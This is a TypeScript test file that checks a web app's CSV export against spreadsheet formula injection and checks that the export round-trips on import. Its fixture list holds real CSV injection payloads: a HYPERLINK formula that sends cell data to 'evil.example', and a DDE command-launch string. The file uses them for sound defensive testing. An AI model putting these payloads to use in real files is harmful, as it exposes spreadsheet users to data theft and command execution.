import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'

import { request } from '../support/http'
import { importAndWait, recordsOf } from '../support/imports'
import { signIn } from '../support/session'
import type { Client } from '../support/session'
import { startTestServer } from '../support/testServer'
import type { TestServer } from '../support/testServer'

// Exported CSV cells never start a spreadsheet formula (OWASP's CSV injection rule), and the export
// imports back to the same values.

let server: TestServer
let admin: Client
let sourceId: string

// A field named like a formula: its header cell is escaped too.
const FIELDS = [{ name: 'note', isPrimary: true }, { name: 'n', type: 'number' }, { name: '-cmd' }]
const FORMULA_START = /^[=+\-@\t\r]/

const NOTES = [
  '=SUM(A1:A9)',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-5',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  "'=1",
  "''-5",
  "'hello",
  "'",
  '-',
  '=',
  'plain, with "quotes"',
  ' =not a formula',
]
const NUMBERS = [-5, -1e-7, 1e21, 0, 12.5, -0.5]

const newDataset = async (name: string) => {
  const id = (await admin.post('/api/datasets', { name })).json.id as string
  for (const field of FIELDS) {
    const reply = await admin.post(`/api/datasets/${id}/fields`, field)
    expect(reply.status, reply.text).toBe(201)
  }
  return id
}

const download = (datasetId: string, format: string) =>
  request(server.baseUrl, `/api/datasets/${datasetId}/records/export?format=${format}`, {
    headers: { 'x-session-id': admin.sessionId },
  })

/** The records' data as a client reads it back, oldest first. */
const dataOf = async (datasetId: string) => (await recordsOf(admin, datasetId)).map((r) => r.data)

beforeAll(async () => {
  server = await startTestServer({ cms: false })
  admin = await signIn(server)
  sourceId = await newDataset('Formulas')
  for (const [i, note] of NOTES.entries()) {
    const data = { note, n: NUMBERS[i % NUMBERS.length], '-cmd': NOTES[NOTES.length - 1 - i] }
    const reply = await admin.post('/api/records', { datasetId: sourceId, data })
    expect(reply.status, reply.text).toBe(201)
  }
})

describe('CSV export of formula-like values', () => {
  it('should start no cell with =, +, -, @, a tab or a carriage return', async () => {
    const csv = (await download(sourceId, 'csv')).text
    const rows = parse(csv, { relax_column_count: true }) as string[][]
    expect(rows[0]).toEqual(['note', 'n', "'-cmd", 'liveDate', 'id'])
    const texts = rows.flatMap((row) => [row[0], row[2]])
    expect(texts.filter((cell) => FORMULA_START.test(cell))).toEqual([])
    // The text quoted with a ' in front; a number as it is (a spreadsheet reads -5 as a number).
    expect(csv).toContain(`"'=SUM(A1:A9)",-5,`)
    expect(csv).toContain(`"'-5",`)
    expect(csv).toContain(`"''=1",`)
    expect(csv).toContain(`"'\t=1",`)
    expect(rows.map((row) => row[1])).toEqual([
      'n',
      ...NOTES.map((_, i) => String(NUMBERS[i % NUMBERS.length])),
    ])
  })

  it('should import its own export to the very same values', async () => {
    const csv = (await download(sourceId, 'csv')).text
    const copyId = await newDataset('Formulas copy')
    const { result } = await importAndWait(server, admin, copyId, csv)
    expect(result).toMatchObject({ created: NOTES.length, failed: 0, errors: [] })
    expect(await dataOf(copyId)).toEqual(await dataOf(sourceId))
    expect((await dataOf(copyId)).map((d) => d.note)).toEqual(NOTES)
  })

  it("should read a number cell written '-5 as -5, and a dry run shows the same", async () => {
    const copyId = await newDataset('By hand')
    const csv = "note,n\nA,'-5\nB,'=1\n"
    const dry = await request(
      server.baseUrl,
      `/api/datasets/${copyId}/records/import?dryRun=true`,
      {
        headers: { 'content-type': 'text/csv', 'x-session-id': admin.sessionId },
        method: 'POST',
        rawBody: csv,
      },
    )
    expect(dry.json.preview.map((row: { data: unknown }) => row.data)).toEqual([
      { note: 'A', n: -5 },
      { note: 'B' },
    ])
    expect(dry.json.errors).toEqual([{ column: 'n', line: 3, message: 'n must be a number' }])
    const { result } = await importAndWait(server, admin, copyId, csv)
    expect(result).toMatchObject({ created: 1, failed: 1 })
    expect(await dataOf(copyId)).toEqual([{ note: 'A', n: -5 }])
  })
})
